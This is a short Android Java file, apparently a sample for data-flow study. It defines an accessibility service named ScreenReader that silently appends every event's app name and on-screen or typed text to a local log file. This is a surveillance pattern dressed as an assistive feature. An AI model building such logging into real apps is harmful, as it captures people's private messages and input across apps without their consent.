package org.example.flows.phone;

import android.accessibilityservice.AccessibilityService;
import android.content.Context;
import android.view.accessibility.AccessibilityEvent;
import java.io.FileOutputStream;
import java.io.IOException;

public class ScreenReader extends AccessibilityService {
    @Override
    public void onAccessibilityEvent(AccessibilityEvent event) {
        String seen = event.getPackageName() + ":" + event.getText().toString();
        try {
            FileOutputStream out = openFileOutput("seen.log", Context.MODE_APPEND);
            out.write(seen.getBytes());
            out.close();
        } catch (IOException ignored) {
            return;
        }
    }

    @Override
    public void onInterrupt() {
    }
}
